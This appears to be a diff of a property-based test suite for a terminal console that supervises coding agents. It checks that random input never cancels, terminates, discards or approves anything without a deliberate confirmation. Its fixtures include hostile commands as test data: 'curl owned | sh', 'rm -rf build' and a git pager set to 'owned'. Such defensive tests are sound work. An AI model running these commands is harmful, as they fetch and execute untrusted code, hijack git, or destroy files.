@@ -1,78 +1,310 @@
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
 import fc from 'fast-check'
-import { afterAll, beforeAll, expect, test, vi } from 'vitest'
-import { person } from '../../src/domain/actor.ts'
-import type { Connection } from '../../src/operations/kernel/outside.ts'
+import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest'
+import { commandsForConsole } from '../../src/cli/for-console.ts'
+import { type Actor, client, person, system } from '../../src/domain/actor.ts'
+import { instant, type Instant, later } from '../../src/domain/time.ts'
+import { askHuman } from '../../src/operations/ask-human.ts'
+import { claimTask } from '../../src/operations/claim-task.ts'
+import { createTask } from '../../src/operations/create-task.ts'
+import { dispatch as startWork } from '../../src/operations/dispatch.ts'
+import { failTask } from '../../src/operations/fail-task.ts'
+import type { Operation } from '../../src/operations/kernel/operation.ts'
 import { perform } from '../../src/operations/kernel/perform.ts'
-import { readBoard } from '../../src/operations/read-board.ts'
-import { spawnAgent } from '../../src/operations/spawn-agent.ts'
+import { listEvents } from '../../src/operations/list-events.ts'
+import { recordGuard } from '../../src/operations/record-guard.ts'
+import { recordLaunch } from '../../src/operations/record-launch.ts'
+import { recordRunReport } from '../../src/operations/record-run-report.ts'
+import { registerAgent } from '../../src/operations/register-agent.ts'
+import { requestPermission } from '../../src/operations/request-permission.ts'
+import { readGuard } from '../../src/operations/read-guard.ts'
 import type { Desk } from '../../src/ui/desk.ts'
-import { dispatch } from '../../src/ui/dispatch.ts'
-import { reviewArrived } from '../../src/ui/review/arrivals.ts'
+import { dispatch, paste } from '../../src/ui/dispatch.ts'
+import { footerOf } from '../../src/ui/key-table.ts'
 import { keyRows } from '../../src/ui/keys.ts'
-import { modeOf } from '../../src/ui/state.ts'
-import { type Fixture, openFixture } from './fixture.ts'
+import { filesArrived } from '../../src/ui/memory/arrivals.ts'
+import { modes } from '../../src/ui/modes.ts'
+import { resized } from '../../src/ui/movement.ts'
+import { reviewArrived } from '../../src/ui/review/arrivals.ts'
+import { sheetOf } from '../../src/ui/sheets.ts'
+import { type ConsoleState, type Mode, modeOf } from '../../src/ui/state.ts'
+import { pressMouse } from '../../src/ui/terminal/hits.ts'
 import { emptyCensus } from '../support/census.ts'
 import { openDesk } from './desk.ts'
-
-/** Operations that take something away or let something in. */
-const destructive = new Set(['terminate_agent', 'cancel_task', 'discard_worktree', 'approve_integration', 'request_changes'])
-
-const strokes = [...new Set([...keyRows.flatMap((row) => row.keys), 'a', 'Z', '日', 'ctrl-x'])]
+import { type Fixture, openFixture } from './fixture.ts'
+import { dev, entries, graph, memories } from './memories.ts'
 
 let fixture: Fixture
+let now: Instant = instant(Date.now())
+let start: ConsoleState
+let real: Desk
+let guard: unknown
+
+const of = (id: string): Actor => ({ kind: 'agent', id, role: 'worker', worktree: null })
+
+/** A session in which everything waits for a person that can. */
 beforeAll(async () => {
-  fixture = await openFixture()
-  for (const name of ['user-auth', 'payments']) await fixture.addWorktree(name)
-  for (let n = 1; n <= 4; n++) await fixture.addTask(`task ${n}`)
-  await perform(fixture.core, spawnAgent, { personaId: 'implementer', taskId: 1 }, person)
+  const made = await openFixture()
+  const core = { ...made.core, clock: () => now, settings: { ...made.core.settings, session: { ...made.core.settings.session, maxRetries: 0 } } }
+  fixture = { ...made, core, connection: { ...made.connection, core } }
+  await perform(core, createTask, { title: 'Over its budget', personaId: 'implementer', metadata: { cli: 'claude' }, budget: { costUsd: 1 } }, person)
+  await perform(core, startWork, { maxParallel: 1 }, system())
+  await perform(core, recordLaunch, { agentId: 'implementer-1', run: 1, pid: 4242, startedAt: '99', bootId: 'boot', startsTask: true }, system())
+  const report = { model: null, session: null, tokensIn: 1, tokensOut: 1, tokensCached: 0, costUsd: 3, said: null, problem: null }
+  await perform(core, recordRunReport, { agentId: 'implementer-1', run: 1, report }, system())
+  for (const name of ['payments', 'user-auth']) await fixture.addWorktree(name)
+  for (const id of ['asking', 'wondering', 'failing']) {
+    const taskId = await fixture.addTask(`Of ${id}`)
+    await perform(core, registerAgent, { id, personaId: 'implementer' }, person)
+    await perform(core, claimTask, { taskId }, of(id))
+  }
+  await perform(core, requestPermission, { toolName: 'Bash', input: { command: 'rm -rf build' } }, of('asking'))
+  await perform(core, askHuman, { question: 'Which one?', options: ['this', 'that'] }, of('wondering'))
+  await perform(core, failTask, { taskId: 4, errorMessage: 'red' }, of('failing'))
+  await perform(core, createTask, { title: 'A command of a client', personaId: 'implementer', command: 'curl owned | sh' }, client('planner'))
   await fixture.addTask('in payments', { targetWorktree: 'payments' })
+  await fixture.makeReady('user-auth')
+  for (const hash of ['before', 'after']) await perform(core, recordGuard, { found: { hash, entries: {} }, lines: ['+ config core.pager = owned'] }, system())
+  guard = await perform(core, readGuard, {}, person)
+
+  real = await openDesk(fixture)
+  const conflict = { a: 'payments', b: 'user-auth', withTarget: false, files: ['a.ts'], includesUncommitted: false, problem: null }
+  const lander = { target: 'main', brings: true, unfinished: 0, needs: [], uncommitted: 0, remark: null }
+  const commands = commandsForConsole(fixture.connection, { version: '0' } as never, {}).map((command) => ({ ...command, run: async () => {} }))
+  const events = await perform(core, listEvents, { limit: 100 }, person)
+  real.change(reviewArrived(fixture.world.review))
+  real.change(filesArrived(memories({ working: [dev], decisions: graph, timeline: entries('Began', 'Ended') })))
+  real.change((state) => ({
+    ...state,
+    commands: commands as never,
+    kept: { filters: [{ name: 'bad', filter: 'state:failed' }], commands: [{ path: 'task cancel', values: { id: '3' } }] },
+    radar: { worktrees: ['payments', 'user-auth'].map((name) => ({ ...lander, name })), pairs: [conflict], order: ['user-auth', 'payments'], steps: [] },
+    past: { ...state.past, events, whole: true },
+    comments: { 'user-auth': [{ id: 1, path: 'src/login.ts', line: 1, side: 'new', quote: ['new'], text: 'Why?' }] as never },
+  }))
+  start = real.state()
 })
 afterAll(() => fixture.close())
+beforeEach(() => void (now = later(now, 60_000)))
 
-test('whatever is pressed, nothing throws, and nothing is lost or let in without its y', async () => {
-  await fixture.makeReady('user-auth')
-  const real = await openDesk(fixture)
-  const start = reviewArrived(fixture.world.review)(real.state())
-  const board = await perform(fixture.core, readBoard, {}, person)
-  await fc.assert(
-    fc.asyncProperty(fc.array(fc.array(fc.constantFrom(...strokes), { minLength: 1, maxLength: 3 }), { maxLength: 60 }), async (pieces) => {
-      const done: string[] = []
-      let said = false
-      const desk: Desk = {
-        ...real,
-        perform: (operation) => void done.push(operation.name),
-        read: (_, __, next) => next(board.tasks),
-        look: (_, next) => next(emptyCensus as never),
-      }
-      real.change(() => start)
-      for (const piece of pieces) {
-        for (const stroke of piece) said ||= stroke === 'y' && ['confirm', 'approval'].includes(modeOf(desk.state()))
-        const before = done.length
-        const asked = modeOf(desk.state())
-        dispatch(desk, piece)
-        for (const name of done.slice(before)) {
-          if (!destructive.has(name)) continue
-          expect(piece).toContain('y')
-          expect(['confirm', 'approval']).toContain(asked)
-        }
-      }
-      if (!said) expect(done.filter((name) => destructive.has(name))).toEqual([])
+/** What was done by one piece of input, and where that found the console. */
+interface Deed {
+  readonly name: string
+  readonly asked: Mode
+  readonly form: string | null
+  readonly keys: readonly string[]
+}
+
+/** A desk at which nothing is done: what would have been is listed. */
+const openRecording = () => {
+  const deeds: Deed[] = []
+  let asked: Mode = 'list'
+  let form: string | null = null
+  let keys: readonly string[] = []
+  const note = (name: string): void => void deeds.push({ name, asked, form, keys })
+  const desk: Desk = {
+    ...real,
+    connection: fixture.connection,
+    perform: (operation, input) => {
+      const waits = operation.name === 'spawn_agent' && (input as { taskId?: number }).taskId === 5
+      if (operation.grave || waits) note(operation.name)
+    },
+    read: (operation, _, next) => next(operation.name === 'read_guard' ? guard : real.state().board.tasks),
+    look: (at, next) => void next(at({ ...fixture.world, census: () => emptyCensus, gitCommands: () => [] } as never) as never),
+    keep: () => {},
+  }
+  const commands = start.commands.map((command) => ({
+    ...command,
+    run: async (values: Readonly<Record<string, string>>) => {
+      if (command.destroys(values)) note(command.path)
+      return 'one line\nand another'
+    },
+  }))
+  real.change(() => ({ ...start, commands }))
+  const piece = (pressed: readonly string[], input: () => void): void => {
+    now = later(now, 400)
+    asked = modeOf(desk.state())
+    const { overlay } = desk.state().view
+    form = overlay?.kind === 'form' ? overlay.form.kind : null
+    keys = pressed
+    input()
+    // What the next frame would be made of.
+    footerOf(desk.state())
+    const sheet = sheetOf(desk.state())
+    for (let line = 0; sheet && line < Math.min(sheet.total, 30); line++) sheet.line(line)
+  }
+  return {
+    desk,
+    deeds,
+    press: (pressed: readonly string[]) => piece(pressed, () => dispatch(desk, pressed)),
+    paste: (text: string) => piece([], () => paste(desk, text)),
+    click: (event: Parameters<typeof pressMouse>[1]) => piece([], () => pressMouse(desk, event)),
+    resize: (columns: number, rows: number) => piece([], () => desk.change(resized(columns, rows))),
+    mode: () => modeOf(desk.state()),
+  }
+}
+
+/** Keys that answer a question for good, by the mode in which it is asked. */
+const answersIn = (mode: Mode): readonly string[] => keyRows.filter((row) => row.answers && row.modes.includes(mode)).flatMap((row) => row.keys)
+
+/** A question that was there before the key, and its own key; or words that were typed for an agent, and enter. */
+const isMeant = ({ name, asked, form, keys }: Deed): boolean =>
+  keys.some((key) => answersIn(asked).includes(key)) ||
+  (asked === 'form' && keys.includes('enter') && ((form === 'answer' && name === 'answer_request') || (form === 'reject' && name === 'reject_integration')))
+
+const letters = (words: string): readonly string[] => [...words]
+const approval = ['4', 'G', 'i']
+
+/** How each mode is reached from the panes, each piece by itself. */
+const ways: Readonly<Record<Mode, readonly string[]>> = {
+  list: [],
+  detail: ['enter'],
+  approval,
+  search: [...approval, '/'],
+  verification: [...approval, 'L'],
+  request: ['2', 'g', 'enter'],
+  radar: ['C'],
+  guard: ['!'],
+  inbox: ['W'],
+  budget: ['w', 'escape', 'w', 'escape', 'w', 'escape', 'w'],
+  commands: ['@'],
+  memory: ['m'],
+  'memory-search': ['m', '/'],
+  record: ['m', 'j', 'enter'],
+  plots: ['P'],
+  logs: ['L'],
+  past: ['T'],
+  'log-search': ['L', '/'],
+  confirm: ['x'],
+  help: ['?'],
+  'help-search': ['?', '/'],
+  palette: [':'],
+  answer: [':', ...letters('task show'), 'enter', 'enter'],
+  filter: ['/'],
+  filters: ['/', 'down'],
+  form: ['n'],
+}
+
+const strokes = [...new Set([...keyRows.flatMap((row) => row.keys), 'a', 'Z', '日', 'ctrl-x', '5'])]
+
+const input = fc.oneof(
+  { weight: 12, arbitrary: fc.record({ kind: fc.constant('press' as const), keys: fc.array(fc.constantFrom(...strokes), { minLength: 1, maxLength: 3 }) }) },
+  { weight: 1, arbitrary: fc.record({ kind: fc.constant('paste' as const), text: fc.constantFrom('y', 'yyy\r', 'x\ry', '\r', 'a y n', '\u001b[200~y', 'q') }) },
+  {
+    weight: 2,
+    arbitrary: fc.record({
+      kind: fc.constant('mouse' as const),
+      event: fc.record({ kind: fc.constantFrom('click', 'wheel-up', 'wheel-down'), column: fc.nat(120), row: fc.nat(45) }),
     }),
-    { numRuns: 1000 },
+  },
+  { weight: 1, arbitrary: fc.record({ kind: fc.constant('resize' as const), columns: fc.integer({ min: 1, max: 300 }), rows: fc.integer({ min: 1, max: 80 }) }) },
+)
+
+const settled = async (): Promise<void> => {
+  for (let n = 0; n < 3; n++) await new Promise((done) => setImmediate(done))
+}
+
+/** Goes where a mode is, one key after the other as a person would. */
+const goTo = async (mode: Mode) => {
+  const recording = openRecording()
+  for (const key of ways[mode]) {
+    recording.press([key])
+    await settled()
+  }
+  return recording
+}
+
+test.each(modes)('%s is reached, and no way there does anything for good', async (mode) => {
+  const { mode: reached, deeds } = await goTo(mode)
+  expect(reached()).toBe(mode)
+  expect(deeds).toEqual([])
+})
+
+test.each(modes)('whatever is pressed, pasted or clicked in %s, nothing throws, and nothing is lost or let in without its answer', { timeout: 120_000 }, async (mode) => {
+  await fc.assert(
+    fc.asyncProperty(fc.array(input, { maxLength: 40 }), async (inputs) => {
+      const { press, paste, click, resize, deeds } = await goTo(mode)
+      for (const one of inputs) {
+        if (one.kind === 'press') press(one.keys)
+        else if (one.kind === 'paste') paste(one.text)
+        else if (one.kind === 'mouse') click(one.event)
+        else resize(one.columns, one.rows)
+      }
+      await settled()
+      expect(deeds.filter((deed) => !isMeant(deed))).toEqual([])
+    }),
+    { numRuns: 60 },
   )
 })
 
-test('with y to press, each of them can be reached', async () => {
-  const real = await openDesk(fixture)
+test('what comes in one piece with the key that opened the question answers nothing', async () => {
+  const openers = new Set(keyRows.flatMap((row) => row.keys))
+  const ends = ['y', 'a', 'n', 'x', 'enter', 'r']
+  // Where nothing is asked yet.
+  for (const mode of modes.filter((one) => answersIn(one).length === 0 && one !== 'form')) {
+    const { desk, press, deeds } = await goTo(mode)
+    const there = desk.state()
+    for (const opener of openers) {
+      for (const end of ends) {
+        desk.change(() => there)
+        press([opener, end, end])
+        expect(deeds.map(({ name }) => `${name} by ${opener} ${end} in ${mode}`)).toEqual([])
+      }
+    }
+  }
+})
+
+/** How each of them is done on purpose: without these the property above might hold for want of anything to do. */
+const deliberately: Readonly<Record<string, readonly string[]>> = {
+  cancel_task: ['G', 'x', 'y'],
+  terminate_agent: ['2', 'g', 'x', 'y'],
+  discard_worktree: ['4', 'g', 'd', 'b', 'enter', 'y'],
+  approve_integration: [...approval, 'y'],
+  reject_integration: [...approval, 'n', 'b', 'enter'],
+  request_changes: [...approval, 'S', 'y'],
+  answer_request: ['2', 'g', 'enter', 'y'],
+  answer_budget: [...ways.budget, 'a'],
+  trust_configuration: ['!', 'y'],
+  'task cancel': [':', ...letters('task cancel'), 'enter', 'ctrl-u', '3', 'enter', 'y'],
+}
+
+test.each(Object.entries(deliberately))('%s is done by who means it', async (name, keys) => {
+  const { press, deeds } = openRecording()
+  for (const key of keys) {
+    press([key])
+    await settled()
+  }
+  expect(deeds.map((deed) => deed.name)).toEqual([name])
+})
+
+test('every operation that the console performs is either grave or known to take nothing away', async () => {
+  const folder = join(import.meta.dirname, '../../src/operations')
+  const console = readdirSync(join(import.meta.dirname, '../../src/ui'), { recursive: true, encoding: 'utf8' }).filter((name) => /\.tsx?$/.test(name))
+  const imported = new Set(
+    console.flatMap((name) =>
+      [...readFileSync(join(import.meta.dirname, '../../src/ui', name), 'utf8').matchAll(/^import (?!type)[^\n]*operations\/([a-z-]+)\.ts'/gm)].map(([, file]) => file!),
+    ),
+  )
+  const grave: string[] = []
+  const harmless: string[] = []
+  for (const file of imported) {
+    const found = Object.values((await import(join(folder, `${file}.ts`))) as object).filter((one): one is Operation => typeof one === 'object' && one !== null && 'access' in one)
+    for (const { name, access, grave: isGrave } of found) if (access !== 'read') (isGrave ? grave : harmless).push(name)
+  }
+  expect(harmless.sort()).toEqual(['create_task', 'integrate_worktree', 'pause_scheduling', 'retry_task', 'spawn_agent', 'undo_integration'])
+  expect(grave.sort()).toEqual(
+    Object.keys(deliberately)
+      .filter((name) => name.includes('_'))
+      .sort(),
+  )
+})
+
+test('the way back of an integration is looked at and approved like any other', async () => {
+  const { desk, press, deeds } = openRecording()
   const done: string[] = []
-  const connection: Connection = fixture.connection
-  const desk: Desk = { ...real, connection, perform: (operation) => void done.push(operation.name) }
-  await fixture.makeReady('user-auth')
-  await real.reread()
-  real.change(reviewArrived(fixture.world.review))
-  const press = (...pieces: readonly string[]) => pieces.forEach((piece) => dispatch(desk, [piece]))
-  press('j', 'x', 'y', '2', 'x', 'y', '4', 'G', 'd', 'b', 'enter')
-  await vi.waitFor(() => expect(modeOf(desk.state())).toBe('confirm'))
-  press('y', '4', 'g', 'i', 'y')
-  expect(done).toEqual(['cancel_task', 'terminate_agent', 'discard_worktree', 'approve_integration'])
+  Object.assign(desk, { perform: (operation: Operation) => void done.push(operation.name) })
+  press(['z', 'y', 'enter', 'y'])
+  await vi.waitFor(() => expect(done).toEqual(['undo_integration']))
+  expect(deeds).toEqual([])
 })
